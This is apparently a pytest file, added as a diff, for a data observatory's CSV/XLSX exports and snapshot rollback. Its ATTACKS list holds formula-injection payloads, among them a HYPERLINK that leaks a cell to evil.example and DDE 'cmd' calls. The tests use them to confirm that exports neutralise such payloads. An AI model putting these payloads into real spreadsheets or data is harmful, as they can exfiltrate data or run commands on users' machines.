@@ -1,0 +1,283 @@
+"""Exports of the published tables (CSV and XLSX) and rollback of the published snapshot.
+
+Formula injection (OWASP "CSV injection") is neutralised in both formats and read back with the
+readers analysts use (openpyxl, calamine); numbers stay numbers; every published table of the demo
+is exported with its row count; a set is swapped in whole or not at all; `observatory rollback`
+puts the previous snapshot back and can be undone.
+"""
+
+from __future__ import annotations
+
+import csv
+import threading
+from datetime import date, datetime
+from pathlib import Path
+
+import duckdb
+import pytest
+from click.testing import CliRunner
+from observatory import exports
+from observatory.cli import main
+from observatory.contracts import GSS_SYMBOLS
+from observatory.exports import SYNTHETIC_LABEL, export_snapshot, neutralise
+from observatory.publish import publish_snapshot, rollback
+from openpyxl import load_workbook
+from python_calamine import CalamineWorkbook
+
+# Text a spreadsheet would run as a formula (OWASP's triggers), and text it would not.
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+HARMLESS = ["Black African", "c", "2023/24", "a = b", " =1+1"]
+
+
+def _snapshot(path: Path) -> Path:
+    """A snapshot shaped like the published one: a publish.manifest and a table of awkward cells."""
+    with duckdb.connect(str(path)) as con:
+        con.execute("create schema publish")
+        con.execute(
+            """create table publish.awkward (row_id integer, label varchar, value double, n bigint,
+               as_at date, built timestamp, flag boolean)"""
+        )
+        rows = [
+            (i, text, -1.5 * i, -i, date(2024, 3, 31), datetime(2024, 4, 1, 2, 3, 4), i % 2 == 0)
+            for i, text in enumerate(ATTACKS + HARMLESS + [None])
+        ]
+        con.executemany("insert into publish.awkward values (?, ?, ?, ?, ?, ?, ?)", rows)
+        con.execute(
+            """create table publish.manifest as select 'awkward' as table_name, 12::bigint as row_count,
+               timestamp '2026-11-23 02:00:00' as published_at, 'test' as code_version"""
+        )
+    return path
+
+
+@pytest.fixture
+def exported(tmp_path) -> Path:
+    snapshot = _snapshot(tmp_path / "observatory.duckdb")
+    target = tmp_path / "exports"
+    export_snapshot(snapshot, target, demo=True)
+    return target
+
+
+def _csv_rows(path: Path) -> list[dict]:
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so Excel reads accents"
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+def test_neutralise_prefixes_only_formula_triggers():
+    for text in ATTACKS:
+        assert neutralise(text) == "'" + text
+    for value in [*HARMLESS, None, -3, -2.5, 0, date(2024, 1, 1), True]:
+        assert neutralise(value) == value
+
+
+def test_site_downloads_neutralise_formula_injection_too():
+    from observatory.site.snapshot import _csv_value
+
+    assert [_csv_value(t) for t in ATTACKS] == ["'" + t for t in ATTACKS]
+    assert [_csv_value(v) for v in (-2.5, -3, "Black African")] == ["-2.5", "-3", "Black African"]
+
+
+def test_csv_neutralises_formula_injection_and_keeps_numbers_as_numbers(exported):
+    rows = _csv_rows(exported / "awkward.csv")
+    by_id = {int(r["row_id"]): r for r in rows}
+    for i, text in enumerate(ATTACKS):
+        assert by_id[i]["label"] == "'" + text
+    for j, text in enumerate(HARMLESS, start=len(ATTACKS)):
+        assert by_id[j]["label"] == text
+    assert by_id[len(ATTACKS) + len(HARMLESS)]["label"] == ""  # null: an empty cell
+    for i, row in by_id.items():
+        assert float(row["value"]) == -1.5 * i  # negative numbers are numbers, never quoted
+        assert row["n"] == str(-i)
+        assert row["as_at"] == "2024-03-31"
+    assert len(rows) == len(ATTACKS) + len(HARMLESS) + 1
+
+
+def test_xlsx_neutralises_formula_injection_read_back_with_openpyxl_and_calamine(exported):
+    path = exported / "awkward.xlsx"
+    wb = load_workbook(path)
+    assert wb.sheetnames == ["awkward", "README"]
+    ws = wb["awkward"]
+    header = [c.value for c in ws[1]]
+    label, value, n = header.index("label"), header.index("value"), header.index("n")
+    data = list(ws.iter_rows(min_row=2))
+    assert len(data) == len(ATTACKS) + len(HARMLESS) + 1
+    for i, text in enumerate(ATTACKS):
+        cell = data[i][label]
+        assert cell.data_type == "s" and cell.value == "'" + _xml(text)  # text, never a formula
+    for i, row in enumerate(data):
+        assert row[value].data_type == "n" and row[value].value == -1.5 * i  # a number, not text
+        assert row[n].data_type == "n" and row[n].value == -i
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
+
+    calamine = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("awkward").to_python()
+    assert calamine[0] == header
+    assert [r[label] for r in calamine[1 : 1 + len(ATTACKS)]] == ["'" + _xml(t) for t in ATTACKS]
+    assert [r[value] for r in calamine[1:]] == [-1.5 * i for i in range(len(calamine) - 1)]
+    assert isinstance(calamine[1][header.index("as_at")], date)
+
+
+def _xml(text: str) -> str:
+    """XML reads a carriage return in a cell back as a line feed (XML 1.0 end-of-line handling)."""
+    return text.replace("\r", "\n")
+
+
+def test_every_workbook_and_the_folder_say_what_the_symbols_mean_and_that_the_data_are_synthetic(exported):
+    notes = {r["topic"]: r["note"] for r in _csv_rows(exported / "README.csv")}
+    assert notes["data"] == SYNTHETIC_LABEL
+    for symbol, meaning in GSS_SYMBOLS.items():
+        assert notes[f"symbol {symbol}"] == meaning
+    sheet = load_workbook(exported / "awkward.xlsx")["README"]
+    assert {r[0]: r[1] for r in sheet.iter_rows(min_row=2, values_only=True)} == notes
+
+
+def test_no_synthetic_label_outside_demo_data(tmp_path):
+    snapshot = _snapshot(tmp_path / "observatory.duckdb")
+    export_snapshot(snapshot, tmp_path / "exports", demo=False)
+    topics = {r["topic"] for r in _csv_rows(tmp_path / "exports" / "README.csv")}
+    assert "data" not in topics and "symbol c" in topics
+
+
+def test_a_set_is_swapped_in_whole_and_a_failed_export_leaves_the_last_set(tmp_path, monkeypatch):
+    snapshot = _snapshot(tmp_path / "observatory.duckdb")
+    target = tmp_path / "exports"
+    expected = {"README.csv", "awkward.csv", "awkward.xlsx", "manifest.csv", "manifest.xlsx"}
+    first = export_snapshot(snapshot, target, demo=True).directory
+    assert target.is_symlink() and target.resolve() == first.resolve()
+
+    # A reader listing the live set while three more are published never sees a partial set.
+    seen, stop = [], threading.Event()
+
+    def reader():
+        while not stop.is_set():
+            try:
+                seen.append({p.name for p in target.iterdir()})
+            except FileNotFoundError:
+                seen.append(set())
+
+    thread = threading.Thread(target=reader)
+    thread.start()
+    try:
+        for _ in range(3):
+            export_snapshot(snapshot, target, demo=True)
+    finally:
+        stop.set()
+        thread.join()
+    assert seen and all(names == expected for names in seen)
+
+    # An export that fails half way (after the CSVs of one table) leaves the live set untouched.
+    live = target.resolve()
+    before = {p.name: p.read_bytes() for p in live.iterdir()}
+
+    def fail(*args, **kwargs):
+        raise OSError("disk full")
+
+    monkeypatch.setattr(exports, "write_xlsx", fail)
+    with pytest.raises(OSError, match="disk full"):
+        export_snapshot(snapshot, target, demo=True)
+    assert target.resolve() == live
+    assert {p.name: p.read_bytes() for p in live.iterdir()} == before
+    builds = target.parent / exports.BUILDS_DIRNAME
+    assert not [p for p in builds.iterdir() if p.name.startswith(".building-")]
+
+
+def test_export_never_takes_over_a_folder_of_other_files(tmp_path):
+    snapshot = _snapshot(tmp_path / "observatory.duckdb")
+    mine = tmp_path / "mine"
+    mine.mkdir()
+    (mine / "notes.txt").write_text("keep me")
+    with pytest.raises(FileExistsError):
+        export_snapshot(snapshot, mine, demo=False)
+    assert (mine / "notes.txt").read_text() == "keep me"
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    export_snapshot(snapshot, empty, demo=False)
+    assert empty.is_symlink() and (empty / "awkward.csv").exists()
+
+
+def test_every_published_demo_table_is_exported_with_its_row_count(demo_run):
+    paths = demo_run["paths"]
+    assert "published/exports" in demo_run["summary"].materialized
+    with duckdb.connect(str(paths.snapshot), read_only=True) as con:
+        tables = {
+            name: con.execute(f'select count(*) from publish."{name}"').fetchone()[0]
+            for (name,) in con.execute(
+                "select table_name from information_schema.tables where table_schema = 'publish'"
+            ).fetchall()
+        }
+        manifest = dict(con.execute("select table_name, row_count from publish.manifest").fetchall())
+    assert {"manifest", "outcome_indicators", "data_quality"} <= set(tables)
+    assert manifest == {t: n for t, n in tables.items() if t != "manifest"}
+    for table, n in tables.items():
+        assert len(_csv_rows(paths.exports / f"{table}.csv")) == n, table
+        sheets = CalamineWorkbook.from_path(str(paths.exports / f"{table}.xlsx"))
+        assert sheets.sheet_names == [table[:31], "README"]
+        assert len(sheets.get_sheet_by_name(table[:31]).to_python()) == n + 1, table  # + header
+
+
+def test_manifest_states_each_tables_sources_and_build_time(demo_run):
+    with duckdb.connect(str(demo_run["paths"].snapshot), read_only=True) as con:
+        manifest = {
+            r[0]: r[1:]
+            for r in con.execute(
+                "select table_name, sources, source_periods, built_at, published_at from publish.manifest"
+            ).fetchall()
+        }
+    sources, periods, built_at, published_at = manifest["pay_gap"]
+    assert sources == "hr_payroll"
+    assert periods == "hr_payroll: 2021-03-31 to 2025-03-31"
+    assert built_at is not None and built_at <= published_at
+    assert "stop_search" in manifest["outcome_indicators"][0]
+    assert "hr_payroll" not in manifest["outcome_indicators"][0]
+
+
+# --- rollback -------------------------------------------------------------------------------------
+
+
+def _publish(value: str) -> None:
+    with duckdb.connect() as con:
+        con.execute("create schema publish")
+        con.execute(f"create table publish.t as select '{value}' as v")
+        publish_snapshot(con, ["t"])
+
+
+def _live(paths) -> str:
+    with duckdb.connect(str(paths.snapshot), read_only=True) as con:
+        return con.execute("select v from publish.t").fetchone()[0]
+
+
+def test_rollback_swaps_the_previous_snapshot_back_and_can_be_undone(data_dir):
+    with pytest.raises(FileNotFoundError):
+        rollback()
+    _publish("first")
+    _publish("second")
+    assert _live(data_dir) == "second"
+    rollback()
+    assert _live(data_dir) == "first"
+    with duckdb.connect(str(data_dir.previous_snapshot), read_only=True) as con:
+        assert con.execute("select v from publish.t").fetchone()[0] == "second"
+    rollback()
+    assert _live(data_dir) == "second"
+    assert not list(data_dir.published.glob(".*tmp"))
+
+
+def test_rollback_command_restores_the_snapshot_and_rebuilds_site_and_exports_from_it(data_dir):
+    runner = CliRunner()
+    result = runner.invoke(main, ["rollback"])
+    assert result.exit_code == 1 and "Nothing to roll back to" in result.output
+    _publish("first")
+    _publish("second")
+    assert runner.invoke(main, ["export"]).exit_code == 0
+    assert _csv_rows(data_dir.exports / "t.csv") == [{"v": "second"}]
+
+    result = runner.invoke(main, ["rollback"])
+    assert result.exit_code == 0, result.output
+    assert _live(data_dir) == "first"
+    assert _csv_rows(data_dir.exports / "t.csv") == [{"v": "first"}]
+    assert (data_dir.site / "index.html").exists()
